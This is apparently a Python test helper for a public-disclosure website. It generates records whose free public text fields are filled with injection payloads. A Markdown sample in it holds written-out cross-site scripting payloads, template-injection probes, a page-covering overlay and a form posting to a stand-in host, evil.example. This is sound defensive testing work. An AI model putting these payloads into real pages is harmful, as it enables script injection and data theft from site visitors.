"""Records made of a kind's declaration: every free text that the public sees is made of attacks, all else is the kind's sample.

Nothing here names a field of a kind but `SETTINGS` and `TIED`, so that a new kind is attacked by itself.
"""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import Iterator, Mapping, Sequence, Set
from dataclasses import dataclass, field
from functools import cache
from itertools import chain, cycle, islice
from typing import Annotated, Any

import yaml
from annotated_types import MaxLen
from pydantic import TypeAdapter, ValidationError

from gongshi.kinds import all_kinds
from gongshi.model.body import Body
from gongshi.model.kind import FieldSpec, Kind, specs
from gongshi.model.record import Part
from site_tools import ROOT
from test_between import sample

PAYLOADS = tuple((ROOT / "tests/payloads.txt").read_text(encoding="utf-8").splitlines())
ENOUGH = 100
"""How many payloads every free text gets, at least."""
LOOKED_AT = {"核实": [{"事项": "当事人名称", "姓名": "张示例", "理由": "登记的名称就是这样", "日期": "2026-11-20"}]}
SETTINGS: Mapping[str, Mapping[str, Any]] = {
    "penalties": {"严重程度": "严重", **LOOKED_AT},
    "permits": LOOKED_AT,
    "appointments": {
        "类型": "任前公示",
        "决定日期": "2026-11-13",
        "公开日期": "2026-11-16",
        "公示开始": "2026-11-16",
        "公示截止": "2026-11-27",
        "举报电话": "0971-0000012",
    },
    "petitions": {"涉及领域": [{"名称": "土地", "数量": "337"}]},
    "rulings": {"不公开当事人": "否", **LOOKED_AT},
}
"""What a sample says otherwise, so that all its texts are allowed and it is public on the day of the tests."""
SEVERAL: Mapping[str, Mapping[str, Any]] = {"penalties": {"连带": "是"}}
"""What a sample says besides when it has several parties. Every second record of a kind that may have them has."""
TIED = {
    ("laws", "articles.article"): "an article is a number",
    ("penalties", "tier"): "a tier is the name of one of the benchmark's, see `records_of`",
    ("penalties", "no_uscc"): "the sample's party has a code",
    ("permits", "no_uscc"): "the sample's party has a code",
    ("reports", "figures.kinds"): "a figure's query is a query",
    ("reports", "figures.where"): "a figure's query is a query",
    ("reports", "figures.total_of"): "a figure's query is a query",
    ("reports", "figures.adds"): "figures that add up name each other",
}
"""Public texts that are not free although their type is: another rule asks what they say."""
OTHER = "其他-"
CITED = "\n《示例袭击法》第七十七条"
"""What a text that cites laws ends with: the short name of the first law, so that pages of its articles list attacked records."""
MARKDOWN = """\
## 标题<img src=x onerror=alert(11)>

[点这里](javascript:alert(12)) [空格]( java&#115;cript:alert(13)) <a href="data:text/html,<script>alert(14)</script>">数据</a>

![图](x.png) <img src="y.png"> <iframe src="z"></iframe>

<script>alert(15)</script><style>body{display:none}</style><svg><script>alert(16)</script></svg>

<form action="https://evil.example/"><input name=q><button>送</button></form>

<div id="gongshi-slot-main"></div> <meta name="gongshi-slot-head"> gongshi-slot-title {{7*7}} ${7*7} ]]> </article></main></body></html>

| 列 |
| --- |
| <details open ontoggle=alert(17)>x</details> |

<p id="__drawer" class="md-header" style="position:fixed;inset:0">盖住</p>
"""
"""What Markdown can be besides: Markdown gets this and every payload."""


@dataclass(frozen=True, slots=True)
class Attacked:
    """A record as the clerk of an attacker would write it."""

    kind: str
    id: str
    values: Mapping[str, Any]
    held: Mapping[str, tuple[str, ...]] = field(default_factory=dict)
    """By the path of a field, the texts that stand in it."""


# ---------------------------------------------------------------- which fields are free, and what fits into them


def is_free(spec: FieldSpec, model: type[Part], prefix: str = "") -> bool:
    """Tell whether the type of a field takes any text (after `prefix`)."""
    if spec.part_type or spec.shape.name == "attachment":  # a file of that name would have to be there
        return False
    text = f"{prefix}<b>"
    try:
        adapter_of(model, spec.name).validate_python([text] if spec.many else text)
    except ValidationError:
        return False
    return True


@cache
def adapter_of(model: type[Part], name: str) -> TypeAdapter[Any]:
    info = model.model_fields[name]
    parts = (info.annotation, *info.metadata)
    declared: Any = Annotated[parts] if info.metadata else info.annotation
    return TypeAdapter(declared)


@cache
def prefix_of(spec: FieldSpec, model: type[Part]) -> str | None:
    """Return what must stand before any text in this field, None if the field is not free."""
    return next((prefix for prefix in ("", OTHER) if is_free(spec, model, prefix)), None)


def room_of(spec: FieldSpec, model: type[Part], prefix: str) -> int:
    """Return how many characters go into a value of a field, or into one of its list."""
    if prefix:
        return 60
    if spec.many:
        return 80
    lengths = [one.max_length for one in model.model_fields[spec.name].metadata if isinstance(one, MaxLen)]
    return min([*lengths, 4000]) - len(CITED) * (spec.shape.name == "basis") - (4 if spec.meta.unique else 0)


@cache
def texts_for(room: int, glue: str) -> tuple[str, ...]:
    """Return texts that fit: formulas and names alone, so that they begin a value and are all of it; of others as many as fit.

    What is longer than the room is there with its beginning or its end. A short field gets `ENOUGH`, a long one all.
    """
    whole = [one for one in PAYLOADS if len(one) <= room]
    cut = [piece for one in PAYLOADS if len(one) > room for piece in (one[:room], one[-room:])]
    pieces = list(dict.fromkeys(piece.strip() for piece in [*whole, *cut] if piece.strip()))
    if room < 100:
        pieces = sorted(pieces, key=len)[:ENOUGH] if len(whole) >= ENOUGH else pieces[:ENOUGH]
    assert len(pieces) >= ENOUGH, f"{room} characters are too few for {ENOUGH} different attacks"
    alone = [one for one in pieces if ALONE.match(one)]
    return (*alone, *packed([one for one in pieces if one not in alone], room, glue))


ALONE = re.compile(r"[=+\-@＝]|__proto__$|constructor$|toString$")


def packed(pieces: Sequence[str], room: int, glue: str) -> Iterator[str]:
    """Yield texts of several pieces, none longer than the room."""
    text = ""
    for piece in pieces:
        if text and len(text) + len(glue) + len(piece) > room:
            yield text
            text = ""
        text = f"{text}{glue}{piece}" if text else piece
    yield text


# ---------------------------------------------------------------- records


@dataclass(slots=True)
class Dealer:
    """Deals each field its texts, one after another, across the records of a kind; when all were dealt, short ones again."""

    kind: Kind
    hands: dict[str, Iterator[str]] = field(default_factory=dict)
    left: dict[str, int] = field(default_factory=dict)
    """How many texts of a field were not dealt yet."""
    held: dict[str, list[str]] = field(default_factory=dict)
    """What the present record was dealt, by field."""

    def wants(self, paths: Sequence[str]) -> bool:
        """Tell whether one of these fields was not dealt all its texts, or none of them any yet."""
        left = [self.left[path] for path in paths if path in self.left]
        return not left or max(left) > 0

    def deal(self, path: str, spec: FieldSpec, model: type[Part], prefix: str) -> Any:
        if path not in self.hands:  # fields begin at different places: a record holds more than one attack
            texts = texts_for(room_of(spec, model, prefix), " " if prefix else "\n")
            if spec.shape.name == "basis":
                texts = tuple(text + CITED for text in texts)
            if spec.shape.name == "markdown":
                texts = (*texts, MARKDOWN)
            start = 7 * len(self.hands) % len(texts)
            self.hands[path] = chain(texts[start:], texts[:start], cycle(text for text in texts if len(text) <= 80))
            self.left[path] = len(texts)
        count = max(1, min(40, self.left[path])) if spec.many else 1
        dealt = [prefix + text for text in islice(self.hands[path], count)]
        self.left[path] -= count
        if spec.meta.unique and self.left[path] < 0:
            dealt = [f"{text}{-self.left[path]}" for text in dealt]
        self.held.setdefault(path, []).extend(unicodedata.normalize("NFKC", text) if prefix else text for text in dealt)
        return (
            list({unicodedata.normalize("NFKC", text) if prefix else text: text for text in dealt}.values())
            if spec.many
            else dealt[0]
        )


def may_grow(spec: FieldSpec, kind: str, path: str) -> bool:
    """Tell whether a table may have more rows than the sample: each has a free text, and nothing that is added up or tied."""
    assert spec.part_type
    needed = [one for one in spec.parts if one.required]
    is_free = [
        prefix_of(one, spec.part_type) is not None and (kind, f"{path}.{one.name}") not in TIED for one in needed
    ]
    return any(is_free) and all(
        free or one.shape.name in ("choice", "day") for one, free in zip(needed, is_free, strict=True)
    )


ROWS = 8
DEFAULTS = {"day": "2026-01-02", "number": "0", "amount": "0", "year": "2024", "flag": "是"}


def attacked_part(
    model: type[Part],
    old: Mapping[str, Any],
    dealer: Dealer,
    around: str,
    row: int,
    without: Set[str] = frozenset(),
) -> dict[str, Any]:
    """Return a group of fields: free public texts attacked, references to the `row`-th record of their kind, others as they were."""
    made: dict[str, Any] = {}
    for spec in (one for one in specs(model) if one.name not in without):
        path, label = around + spec.name, spec.meta.label
        value = old.get(label)
        if not spec.meta.public or (dealer.kind.name, path) in TIED:
            fresh = value
        elif spec.meta.refers_to:
            fresh = value and f"a-{row}"
        elif spec.part_type:
            fresh = attacked_rows(spec, value, dealer, path, row)
        elif (prefix := prefix_of(spec, model)) is not None:
            fresh = dealer.deal(path, spec, model, prefix)
            if prefix and spec.many:
                fresh = [*(value or ()), *fresh]
        else:
            fresh = value if value is not None or not (around and spec.required) else default_of(spec)
        if fresh is not None:
            made[label] = fresh
    return made


def attacked_rows(spec: FieldSpec, value: Any, dealer: Dealer, path: str, row: int) -> Any:
    """Return the rows of a table, or a group; one row for a table that the sample leaves out, if it holds free text."""
    assert spec.part_type
    if value is None and not any(prefix_of(one, spec.part_type) is not None for one in spec.parts):
        return None
    if not spec.many:
        return attacked_part(spec.part_type, value or {}, dealer, f"{path}.", row)
    rows = value if value is not None else [{}]
    names = [f"{path}.{one.name}" for one in spec.parts]
    if may_grow(spec, dealer.kind.name, path) and dealer.wants(names):
        rows = [*rows, *[{}] * (ROWS - len(rows))]
    rows = [*rows, *[{}] * (2 * spec.meta.spreads - len(rows))]
    return [attacked_part(spec.part_type, one, dealer, f"{path}.", place) for place, one in enumerate(rows)]


def default_of(spec: FieldSpec) -> str:
    return spec.shape.choices[0] if spec.shape.choices else DEFAULTS[spec.shape.name]


def records_of(kind: Kind) -> tuple[Attacked, ...]:
    """Return records of a kind, as many as it takes until each free text of it was dealt all its payloads."""
    base = yaml.load(sample(kind.name), Loader=yaml.BaseLoader) | SETTINGS.get(kind.name, {})
    dealer = Dealer(kind)
    records: list[Attacked] = []
    alone = {spec.name for spec in kind.fields if spec.meta.spreads}
    several = {spec.name for spec in kind.fields if spec.within}
    while not records or any(left > 0 for left in dealer.left.values()):
        id, dealer.held = f"a-{len(records)}", {}
        if alone and len(records) % 2:
            values = attacked_part(kind.record, base | SEVERAL.get(kind.name, {}), dealer, "", 0, several)
        else:
            values = attacked_part(kind.record, base, dealer, "", 0, alone)
        if kind.name == "laws" and not records:
            values["简称"] = [*values["简称"], "示例袭击法"]
        values |= {"标识": id} | numbered(kind, base, len(records) + 1)
        records.append(Attacked(kind.name, id, values, {path: tuple(texts) for path, texts in dealer.held.items()}))
    return tuple(records)


def numbered(kind: Kind, base: Mapping[str, Any], number: int) -> dict[str, str]:
    """Return the strict values of which no two records may have the same, with another number."""
    strict = [spec for spec in kind.fields if spec.meta.unique and prefix_of(spec, kind.record) is None]
    return {
        label: re.sub(r"[0-9]+(?=号)", str(number), base[label])
        for spec in strict
        if (label := spec.meta.label) in base
    }


@cache
def attacks() -> Mapping[str, tuple[Attacked, ...]]:
    """Return the records of every kind."""
    return {name: records_of(kind) for name, kind in all_kinds().items()}


def attacked_body() -> dict[str, Any]:
    """Return the body's own file with an attack in each of its free texts."""
    values = yaml.load((ROOT / "data/site.yml").read_text(encoding="utf-8"), Loader=yaml.BaseLoader)
    free = [spec for spec in specs(Body) if spec.meta.public and not spec.part_type and prefix_of(spec, Body) == ""]
    for place, spec in enumerate(free):
        texts = texts_for(room_of(spec, Body, ""), " ")
        values[spec.meta.label] = [texts[-1 - place]] if spec.many else texts[-1 - place]
    return {**values}


def as_yaml(data: Mapping[str, Any]) -> str:
    """Write JSON, which is YAML: every text between quotation marks."""
    return json.dumps(data, ensure_ascii=False, indent=0)
